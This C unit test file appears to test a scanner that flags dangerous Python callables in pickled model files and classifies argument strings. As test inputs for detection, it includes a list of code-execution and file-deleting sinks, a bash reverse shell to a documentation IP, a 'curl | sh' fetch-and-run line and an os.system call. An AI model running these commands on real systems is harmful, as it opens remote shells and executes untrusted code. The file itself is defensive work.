/* test_judge_names.c - what is known of names, and what strings read like. */
#include "judge/argument_flags.h"
#include "judge/judge.h"
#include "judge/knowledge.h"
#include "judge/phrases.h"
#include "judge/words.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

static double lone(const char *module, const char *name)
{
    char detail[256];

    return sg_judge_name(sg_text_of(module), sg_text_of(name), detail, sizeof(detail));
}

static void the_table_is_sorted_and_without_doubles(void **state)
{
    (void)state;
    assert_true(sg_names_count > 1000);
    for (size_t i = 1; i < sg_names_count; i++)
        assert_true((sg_names_table[i - 1] & ~0xffULL) < (sg_names_table[i] & ~0xffULL));
}

static void dangerous_names_are_malicious_uncalled(void **state)
{
    static const char *const names[][2] = {
        {"os", "system"},
        {"posix", "system"},
        {"nt", "system"},
        {"subprocess", "Popen"},
        {"commands", "getoutput"},
        {"__builtin__", "eval"},
        {"builtins", "exec"},
        {"runpy", "_run_code"},
        {"pty", "spawn"},
        {"pip", "main"},
        {"timeit", "timeit"},
        {"cProfile", "runctx"},
        {"code", "InteractiveInterpreter.runcode"},
        {"ctypes", "CDLL"},
        {"asyncio.unix_events", "_UnixSubprocessTransport._start"},
        {"doctest", "debug_script"},
        {"pydoc", "pipepager"},
        {"pydoc", "locate"},
        {"pkgutil", "resolve_name"},
        {"ensurepip", "_run_pip"},
        {"numpy.testing._private.utils", "runstring"},
        {"torch.utils.collect_env", "run"},
        {"torch.utils.bottleneck.__main__", "run_cprofile"},
        {"torch._inductor.codecache", "compile_file"},
        {"torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"},
        {"_pydev_bundle._pydev_execfile", "execfile"},
        {"distutils.spawn", "spawn"},
        {"multiprocessing.util", "spawnv_passfds"},
        {"linecache", "getline"},
        {"ssl", "get_server_certificate"},
        {"smtplib", "SMTP"},
        {"webbrowser", "open"},
        {"shutil", "rmtree"},
        {"uuid", "_get_command_stdout"},
        {"socket", "create_connection"},
        {"urllib.request", "urlopen"},
        {"requests", "get"},
        {"site", "addpackage"},
        {"logging.config", "dictConfig"},
        {"yaml", "unsafe_load"},
        {"atexit", "register"},
        {"multiprocessing.util", "Finalize"},
        {"fcntl", "ioctl"},
        {"signal", "pidfd_send_signal"},
        {"weakref", "finalize"},
        {"copyreg", "add_extension"},
        {"unittest.mock", "_get_target"},
        {"distutils.file_util", "write_file"},
        {"pathlib", "Path.write_text"},
        {"pathlib", "Path.move"},
        {"pathlib._local", "PosixPath.write_bytes"},
        {"typing", "_eval_type"},
        {"typing", "get_type_hints"},
        {"annotationlib", "ForwardRef.evaluate"},
        {"xml.etree.ElementTree", "ElementTree.write"},
        {"sys", "modules"},
        {"torch.hub", "load"},
        {"rlcompleter", "Completer.attr_matches"},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
        if (lone(names[i][0], names[i][1]) < 0.9)
            fail_msg("%s.%s: %.3f", names[i][0], names[i][1], lone(names[i][0], names[i][1]));
}

static void names_hidden_in_longer_ones_are_found(void **state)
{
    (void)state;
    assert_true(lone("torch", "serialization.os.system") >= 0.9);
    assert_true(lone("pathlib", "os.system") >= 0.9);
    assert_true(lone("builtins", "eval.__call__") >= 0.9);
    assert_true(lone("builtins", "print.__class__.__base__.__subclasses__") >= 0.9);
    assert_true(lone("numpy", "__builtins__") >= 0.9);
    assert_true(lone("subprocess", "Popen.communicate") >= 0.9);
    assert_true(lone("a.b", "c.d.e.f.g.h.posix.system.__call__") >= 0.9);
}

static void names_of_clean_models_are_benign(void **state)
{
    static const char *const names[][2] = {
        {"transformers.training_args", "TrainingArguments"},
        {"transformers.trainer_utils", "SchedulerType"},
        {"transformers.trainer_utils", "IntervalStrategy"},
        {"transformers.trainer_utils", "HubStrategy"},
        {"transformers.training_args", "OptimizerNames"},
        {"accelerate.state", "PartialState"},
        {"accelerate.utils.dataclasses", "DistributedType"},
        {"torch", "device"},
        {"torch._utils", "_rebuild_tensor_v2"},
        {"torch.torch_version", "TorchVersion"},
        {"torch.nn.modules.linear", "Linear"},
        {"torch.jit._script", "RecursiveScriptModule"},
        {"torch.fx.graph_module", "GraphModule"},
        {"_codecs", "encode"},
        {"numpy.core.multiarray", "_reconstruct"},
        {"numpy._core.multiarray", "scalar"},
        {"numpy", "dtype"},
        {"flair.data", "Dictionary"},
        {"argparse", "Namespace"},
        {"pyannote.audio.core.task", "Specifications"},
        {"ultralytics.nn.tasks", "DetectionModel"},
        {"omegaconf.listconfig", "ListConfig"},
        {"omegaconf.nodes", "AnyNode"},
        {"builtins", "getattr"},
        {"builtins", "set"},
        {"uuid", "UUID"},
        {"datetime", "datetime"},
        {"decimal", "Decimal"},
        {"functools", "partial"},
        {"numba.core.environment", "_rebuild_env"},
        {"re", "_compile"},
        {"operator", "attrgetter"},
        {"collections", "OrderedDict"},
        {"copyreg", "_reconstructor"},
        {"copy_reg", "_reconstructor"},
        {"__main__", "Net"},
        {"__main__", "tokenize"},
        {"my_project.layers", "my_activation"},
        {"subprocess", "CalledProcessError"},
        {"logging", "FileHandler"},
        {"PIL.Image", "Image"},
        {"pandas.core.frame", "DataFrame"},
        {"pandas._libs.internals", "_unpickle_block"},
        {"sklearn.neighbors._kd_tree", "newObj"},
        {"xgboost.core", "Booster"},
        {"scipy.sparse._csr", "csr_matrix"},
        {"pathlib", "PosixPath"},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
        if (lone(names[i][0], names[i][1]) >= 0.5)
            fail_msg("%s.%s: %.3f", names[i][0], names[i][1], lone(names[i][0], names[i][1]));
}

static void names_that_libraries_have_for_sinks_are_known(void **state)
{
    char path[520];

    (void)state;
    assert_int_equal(sg_name_look(SG_TEXT("mailbox"), SG_TEXT("Maildir.clean")).sink,
                     SG_SINK_DELETE);
    assert_true(sg_name_look(SG_TEXT("mailbox"), SG_TEXT("Maildir")).flags & SG_N_STORES);
    /* A path longer than a name has room: its end is what is resolved. */
    memset(path, 'a', 500);
    memcpy(path + 500, ".mailbox.Maildir", 17);
    for (size_t i = 40; i < 500; i += 40)
        path[i] = '.';
    assert_int_not_equal(sg_name_method(SG_TEXT("m"), sg_text_of(path), "add").sink, SG_SINK_NONE);
    assert_int_equal(sg_name_method(SG_TEXT("mailbox"), SG_TEXT("Maildir"), "add").sink,
                     sg_name_method(SG_TEXT("m"), sg_text_of(path), "add").sink);
    assert_true(lone("modelscan.settings", "DEFAULT_SETTINGS") >= 0.9);
    assert_true(sg_name_look(SG_TEXT("sklearn.utils"), SG_TEXT("resample")).flags & SG_N_LIBRARY);
    assert_false(sg_name_look(SG_TEXT("sklearn.tests"), SG_TEXT("resample")).flags & SG_N_LIBRARY);
}

static void odd_names_do_no_harm(void **state)
{
    static char parts[4096];
    struct sg_name name;

    (void)state;
    assert_true(lone("", "") < 0.5);
    assert_true(lone("", "system") < 0.5);
    assert_true(lone("....", "....") < 0.5);
    for (size_t i = 0; i + 1 < sizeof(parts); i += 2) {
        parts[i] = 'a';
        parts[i + 1] = '.';
    }
    memcpy(parts + sizeof(parts) - 10, "os.system", 9);
    name = sg_name_look((struct sg_text){parts, sizeof(parts) - 1}, SG_TEXT(""));
    assert_true(name.flags & SG_N_LONG);
    assert_int_equal(name.sink, SG_SINK_SPAWN);
    assert_int_equal(sg_name_look(SG_TEXT("os"), SG_TEXT("system\0")).sink, SG_SINK_NONE);
}

static void the_line_for_a_name_is_cut_and_printable(void **state)
{
    char detail[24];

    (void)state;
    sg_judge_name(SG_TEXT("os\n\x1b[31m"), SG_TEXT("system"), detail, sizeof(detail));
    assert_int_equal(strlen(detail), sizeof(detail) - 1);
    for (const char *c = detail; *c; c++)
        assert_true(*c >= 0x20 && *c < 0x7f);
    sg_judge_name(SG_TEXT("posix"), SG_TEXT("system"), detail, sizeof(detail));
    assert_memory_equal(detail, "names posix.system", 18);
}

static unsigned reads(const char *text)
{
    return sg_phrase_flags(text, strlen(text), true);
}

static void commands_and_source_are_told_from_words(void **state)
{
    (void)state;
    assert_true(reads("touch /tmp/x") & SG_ARG_SHELL);
    assert_true(reads("/usr/bin/touch x") & SG_ARG_SHELL);
    assert_true(reads("whoami") & SG_ARG_SHELL);
    assert_true(reads("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1") & SG_ARG_PAYLOAD);
    assert_true(reads("CURL http://192.0.2.1/x | SH") & SG_ARG_PAYLOAD);
    assert_true(reads("import os; os.system('id')") & SG_ARG_PAYLOAD);
    assert_true(reads("__import__('os').getcwd()") & SG_ARG_PAYLOAD);
    assert_true(reads("print('x')") & SG_ARG_CODE);
    assert_true(reads("http://example.org/a") & SG_ARG_URL);
    assert_true(reads("192.0.2.1:4444") & SG_ARG_HOST);
    assert_true(reads("192.0.2.1") & SG_ARG_HOST);
    assert_true(reads("/tmp/x.py") & SG_ARG_PATH);
    assert_true(reads("cHJpbnQoImhlbGxvIHdvcmxkIikgIyBhYmM0NTY3ODkw") & SG_ARG_ENCODED);
    assert_true(reads("__globals__") & SG_ARG_WALK);
    assert_true(reads("a.__class__.__mro__") & SG_ARG_WALK);
    assert_true(reads("os.system") & SG_ARG_RUNS);
    assert_true(reads("\x80\x04K\x01.") & SG_ARG_PICKLE);
}

static void ordinary_strings_say_nothing(void **state)
{
    static const char *const texts[] = {"relu",         "f8",     "petal_length", "utf-8",
                                        "n_estimators", "latin1", "l2",           "numpy.core",
                                        "hello world",  "<U21",   "1.0.3",        "Europe/Berlin"};
    unsigned odd = SG_ARG_SHELL | SG_ARG_CODE | SG_ARG_PAYLOAD | SG_ARG_URL | SG_ARG_HOST |
                   SG_ARG_PATH | SG_ARG_ENCODED | SG_ARG_WALK | SG_ARG_RUNS | SG_ARG_PICKLE;

    (void)state;
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
        if (reads(texts[i]) & odd)
            fail_msg("%s: %x", texts[i], reads(texts[i]));
    assert_int_equal(sg_phrase_flags("", 0, true), 0);
    assert_false(sg_phrase_flags("they used to eval(x) here", 25, false) & SG_ARG_PAYLOAD);
}

static void words_are_told_apart(void **state)
{
    (void)state;
    assert_true(sg_word_class(SG_TEXT("Linear")));
    assert_true(sg_word_class(SG_TEXT("_Private")));
    assert_false(sg_word_class(SG_TEXT("newObj")));
    assert_false(sg_word_class(SG_TEXT("___")));
    assert_true(sg_word_rebuilds(SG_TEXT("_rebuild_tensor_v2")));
    assert_true(sg_word_rebuilds(SG_TEXT("__pyx_unpickle_Tree")));
    assert_false(sg_word_rebuilds(SG_TEXT("renewal")));
    assert_true(sg_word_runs(SG_TEXT("_run_code")));
    assert_false(sg_word_runs(SG_TEXT("runner_up")));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_table_is_sorted_and_without_doubles),
        cmocka_unit_test(dangerous_names_are_malicious_uncalled),
        cmocka_unit_test(names_hidden_in_longer_ones_are_found),
        cmocka_unit_test(names_of_clean_models_are_benign),
        cmocka_unit_test(names_that_libraries_have_for_sinks_are_known),
        cmocka_unit_test(odd_names_do_no_harm),
        cmocka_unit_test(the_line_for_a_name_is_cut_and_printable),
        cmocka_unit_test(commands_and_source_are_told_from_words),
        cmocka_unit_test(ordinary_strings_say_nothing),
        cmocka_unit_test(words_are_told_apart),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
